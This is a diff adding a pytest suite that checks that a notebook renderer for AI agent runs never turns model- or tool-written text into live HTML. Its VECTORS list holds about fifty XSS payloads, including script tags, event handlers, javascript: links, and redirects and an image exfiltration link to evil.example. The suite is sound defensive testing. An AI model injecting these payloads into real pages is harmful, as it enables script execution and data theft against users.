@@ -1,0 +1,188 @@
+"""Nothing that a model or a tool wrote becomes markup, and nothing of ours is taken away by Lab."""
+
+from __future__ import annotations
+
+import base64
+from typing import Any
+
+import pytest
+from lab_sanitizer import refused
+from nbagents.notebook.cards import tool_card, tool_list
+from nbagents.notebook.frozen import frozen_bundle
+from nbagents.tools.tool import Tool
+from trees import Page, call, failed_call, failure, html_of, payload, plain_of, run, tree
+
+VECTORS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='x' onerror='alert(1)'/>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "<a href=javascript:alert(1)>x</a>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "`onclick=alert(1)`",
+    "</pre></details><script>alert(1)</script>",
+    "</summary><b onclick=alert(1)>x</b>",
+    "</textarea><img src=x onerror=alert(1)>",
+    "<style>body{display:none}</style>",
+    '<div style="background:url(javascript:alert(1))">',
+    '<form action="https://evil.example"><input name=q></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<base href="https://evil.example/">',
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<math><mtext></mtext><script>alert(1)</script></math>",
+    "<details open ontoggle=alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "<IMG SRC=JaVaScRiPt:alert(1)>",
+    "<x onclick=alert(1) tabindex=0>",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt&colon;alert(1))",
+    "[click](java\nscript:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](vbscript:msgbox(1))",
+    '[click](https://a.example "x\\" onclick=alert(1) ")',
+    '[click](https://a.example"onclick="alert(1))',
+    "[r]\n\n[r]: javascript:alert(1)",
+    "![x](https://evil.example/?q=secret)",
+    "![x](javascript:alert(1))",
+    '![" onerror="alert(1)](https://a.example)',
+    "<https://a.example/onclick=alert(1)>",
+    "<javascript:alert(1)>",
+    "```<script>\nalert(1)\n```",
+    "| <b onclick=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
+    "# <script>alert(1)</script>",
+    "> <img src=x onerror=alert(1)>",
+    "$\\href{javascript:alert(1)}{x}$",
+]
+
+
+def everywhere(text: str) -> dict[str, Any]:
+    """A tree that holds a text wherever a model, a tool or a person could have put it."""
+    issue = {"field": text, "constraint": text, "message": text}
+    bad = failure(text, kind=text, recovery=text, issues=[issue], debug_message=text)
+    inner = run(
+        call("c3", text, content=text),
+        run_id="run-2",
+        text=text,
+        agent_name=text,
+        prompt=text,
+        failure=bad,
+        status="failed",
+    )
+    outer = run(
+        failed_call("c1", name=text, arguments={text: text}, failure=bad, child_run_ids=["run-2"]),
+        call(
+            "c2",
+            text,
+            arguments=text,
+            hint=text,
+            status="running",
+            content=text,
+            preview=text,
+            source_hash=text,
+            progress={"message": text, "fraction": 0.5},
+            output=[{"stream": text, "text": text}],
+            payloads=[
+                payload(text, {text: [text]}),
+                payload("map", {"title": text, "pins": [{"lon": 1, "lat": 2, "label": text}]}),
+                payload("map", {"center": text}),
+            ],
+            bounds={"returned": 1, "total": 2, "truncated": True, "next_cursor": text},
+        ),
+        call(text, "nested", arguments={"deep": {text: [text]}}),
+        text=text,
+        agent_name=text,
+        model=text,
+        prompt=text,
+        tools=[text],
+        forked_from=text,
+    )
+    outer["items"][:0] = [
+        {"type": "thought", "step": 1, "text": text},
+        {"type": "text", "step": 1, "text": text},
+    ]
+    return tree(outer, inner)
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_what_a_model_wrote_is_never_markup(vector: str) -> None:
+    page = Page(html_of(frozen_bundle(everywhere(vector), "run-1")))
+    assert refused(page.elements) == []
+    assert page.open_tags == []
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_what_a_tool_says_of_itself_is_never_markup(vector: str) -> None:
+    def function(**arguments: object) -> None:
+        """Takes anything."""
+
+    schema = {
+        "type": "object",
+        "properties": {vector: {"enum": [vector], "default": vector, "description": vector}},
+    }
+    tool = Tool.from_schema("trick", vector, schema, function)
+    for bundle in (tool_card(tool), tool_list([tool])):
+        page = Page(html_of(bundle))
+        assert refused(page.elements) == []
+        assert page.open_tags == []
+
+
+def test_there_are_enough_tries() -> None:
+    assert len(set(VECTORS)) >= 30
+
+
+def test_a_text_is_shown_as_it_was_written() -> None:
+    page = Page(html_of(frozen_bundle(everywhere("<b>&amp;</b>"), "run-1")))
+    assert page.text.count("<b>&amp;</b>") > 20
+
+
+@pytest.mark.parametrize("unseen", ["\x1b[31m", "\x07", "\u202e", "\x9b", "\ud800", "\r"])
+def test_a_character_that_acts_unseen_is_written_out(unseen: str) -> None:
+    bundle = frozen_bundle(everywhere(f"red{unseen}text"), "run-1")
+    assert unseen not in html_of(bundle)
+    assert unseen not in plain_of(bundle)
+
+
+def test_a_picture_in_an_answer_is_a_link_so_that_nothing_is_fetched() -> None:
+    answer = "![a cat](https://evil.example/?q=secret)"
+    page = Page(html_of(frozen_bundle(tree(run(text=answer)), "run-1")))
+    assert page.named("img") == []
+    assert "[picture: a cat]" in page.text
+
+
+def test_mathjax_is_told_to_leave_the_run_alone() -> None:
+    first = Page(html_of(frozen_bundle(tree(run(text="$5 or $6")), "run-1"))).elements[0]
+    assert {"tex2jax_ignore", "mathjax_ignore"} <= set(first[1]["class"].split())
+
+
+def test_the_map_is_a_picture_without_script() -> None:
+    shown = tree(run(call(payloads=[payload("map", {"center": {"lon": 1, "lat": 2}})])))
+    (image,) = Page(html_of(frozen_bundle(shown, "run-1"))).named("img")
+    svg = base64.b64decode(image["src"].partition("base64,")[2]).decode()
+    assert svg.startswith("<svg ")
+    assert "<script" not in svg
+
+
+def test_a_usual_run_keeps_every_tag_attribute_and_style_in_lab() -> None:
+    answer = "# Head\n\n1. [a](https://b.example)\n\n> q\n\n| a |\n|--:|\n| 1 |\n\n```\nx\n```\n\n---\n~~d~~"
+    shown = tree(
+        run(
+            *(call(f"c{number}") for number in range(9)),
+            failed_call("bad", failure=failure("no", debug_message="Traceback")),
+            call("map", payloads=[payload("map", {"zoom": 4}), payload("rows", [1, 2])]),
+            text=answer,
+        )
+    )
+    page = Page(html_of(frozen_bundle(shown, "run-1")))
+    assert refused(page.elements) == []
+    assert {"details", "table", "img", "a", "pre", "ol"} <= {tag for tag, _ in page.elements}
